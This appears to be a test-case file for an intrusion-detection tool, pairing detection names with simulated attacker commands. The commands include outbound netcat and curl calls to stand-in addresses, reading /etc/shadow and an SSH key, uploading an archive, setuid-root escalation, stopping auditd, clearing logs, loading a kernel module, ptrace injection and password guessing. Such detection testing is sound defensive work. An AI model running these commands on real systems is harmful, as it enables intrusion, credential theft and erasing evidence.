## Shell of a server connects out
#also Shell started by a network server
server 'busybox nc -w 1 203.0.113.9 8443'
## File written by a server, then run
#also Program or script of a shared folder changed by an untrusted program
#also Shell started by a network server
#setup mkdir -p /srv/up
server 'cp /bin/true /srv/up/x'; /srv/up/x
## Server's command looks around, then downloads
#also Download tool started by a server
#also Identity asked from a service's shell
#also Shell started by a network server
server 'id; uname -a; curl -s http://10.9.8.7/'
## Script put into a web folder, then a shell of the server
#also Script put into a web folder by hand
#also Shell started by a network server
#setup mkdir -p /var/www/html
echo x > /var/www/html/s.php; server true
## Downloaded script run
#also Interpreter runs a script from a scratch folder
#also Transfer tool given a bare private address and a scratch folder
#setup web
curl -s -o /tmp/i.sh http://10.9.8.7:8000/true; bash /tmp/i.sh
## Program in a scratch folder run, then removed
#also Executable run from a scratch folder
cp /bin/true /tmp/x; /tmp/x; rm -f /tmp/x
## Program in a scratch folder made executable, then run
#also Executable run from a scratch folder
#also File in a scratch folder made executable by hand
#also Program put together by a shell or a text tool
cat /bin/true > /tmp/x; chmod +x /tmp/x; /tmp/x
## Execution refused, then done another way
#also Execution refused in a scratch folder
echo true > /tmp/x; /tmp/x; sh /tmp/x
## Set-user-id program made, then used
#also Executable run from a scratch folder
#also File in a scratch folder made executable by hand
#also Program in a scratch folder made executable, then run
#also Set-user-id bit set in a scratch folder
#also Set-user-id program raised privileges to root
cp /bin/bash /var/tmp/b; chmod 4755 /var/tmp/b; setpriv --reuid 1000 --clear-groups /var/tmp/b -p -c true
## Raised to root, then a log emptied
#also Log of a service emptied or removed by hand
#also Set-user-id program raised privileges to root
#setup mkdir /opt/y; cp /bin/bash /opt/y/bash; chmod 4755 /opt/y/bash; mkdir -p /var/log/nginx
setpriv --reuid 1000 --clear-groups /opt/y/bash -p -c ': > /var/log/nginx/access.log; true'
## Way to root looked for in all directions
#also Files searched for ways to root
id; find /home -perm -4000; cat /etc/passwd
## Key read, then a login elsewhere
#also Private SSH key read
#setup mkdir -p /root/.ssh; echo k > /root/.ssh/id_ed25519
cat /root/.ssh/id_ed25519; ssh -o BatchMode=yes 10.9.8.7
## Secret read, then a connection to the internet
#also Password hashes read
#also Transfer tool given a bare address
cat /etc/shadow; curl -s http://203.0.113.9/
## Archive made, then sent away
#also Folders of people packed into a scratch folder
#also Transfer tool given a bare private address and a scratch folder
tar cf /tmp/x.tar /etc/hosts; curl -s -T /tmp/x.tar http://10.9.8.7/
## Guard stopped, then the kernel changed or a log emptied
#also Log files cleared
#also Security tool stopped
systemctl stop auditd; sh -c ': > /var/log/auth.log'
## Module loaded, then its file removed
#also Kernel module loaded from a file
: > /tmp/rk.ko; busybox insmod /tmp/rk.ko; rm -f /tmp/rk.ko
## Downloaded program connects to a mining port
#also Connection to a port of mining pools
#also Downloaded file executed
#also Executable run from a scratch folder
#also File in a scratch folder made executable by hand
#also Program in a scratch folder connects out
#also Program in a scratch folder made executable, then run
#also Transfer tool given a bare private address and a scratch folder
#setup web
curl -s -o /tmp/x http://10.9.8.7:8000/connect; chmod +x /tmp/x; /tmp/x tcp4 203.0.113.9 3333
## Ports tried, then a login
#also Ports tried by code without a file
#also SSH or a remote desktop spoken by an untrusted program
#setup listener 22
python3 -c '
import socket
for port in list(range(30, 50)) + [22]:
  s = socket.socket(); s.connect_ex(("10.9.8.7", port)); s.close()'
## Shell in a container by exec, then a download
#also Command run in a container by hand
#also Container started by hand
#also Containers or virtual machines listed by hand
#also Log of a service emptied or removed by hand
#setup image
engine; docker run -d --name web --network none debian:12 sleep 100; docker cp /bin/true web:/usr/bin/curl; docker exec -t web sh -c 'curl http://10.9.8.7/; :'
## Process changed, then a connection of its own
#also Code put into another process
#also Code without a file connects to an address without a name
python3 -c '
import ctypes, os, socket, time
word = ctypes.create_string_buffer(8); child = os.fork()
if child == 0:
  time.sleep(1); socket.socket().connect_ex(("203.0.113.9", 443)); os._exit(0)
ptrace = ctypes.CDLL(None).ptrace; ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
ptrace(16, child, None, None); os.waitpid(child, 0); ptrace(5, child, ctypes.addressof(word), 1); ptrace(17, child, None, None); os.waitpid(child, 0)'
## Logins guessed, then one that worked
#also Login from the internet with a password
#also Login that checks nobody's identity
#also SSH password guessing
#setup prepare_sshd; start_log
/usr/sbin/sshd -f /srv/sshd
for n in 1 2 3 4; do login wrong ann 3 & done; wait; login right ann; end_log
## Sudo refused, then allowed
#also Local password guessing
#also Password given to sudo by a script
#also Sudo refused several times
#setup prepare_sshd; echo 'ann ALL=(ALL) ALL' > /etc/sudoers.d/ann; chmod 440 /etc/sudoers.d/ann; start_log
for word in wrong wrong wrong right; do echo $word | setpriv --reuid 1000 --regid 1000 --clear-groups sudo -S -p '' id; done; end_log
## Account made, then given the rights of root
#also Group of administrators joined
#also Login account created
#also User added to a group of administrators
#setup start_log
useradd -m -s /bin/bash eve; usermod -aG sudo eve; end_log
## Account made, then used
#also Login account created
#also Login from the internet with a password
#also Login that checks nobody's identity
#setup prepare_sshd; start_log
/usr/sbin/sshd -f /srv/sshd
useradd -m -s /bin/sh eve; echo eve:right | chpasswd; login right eve; end_log
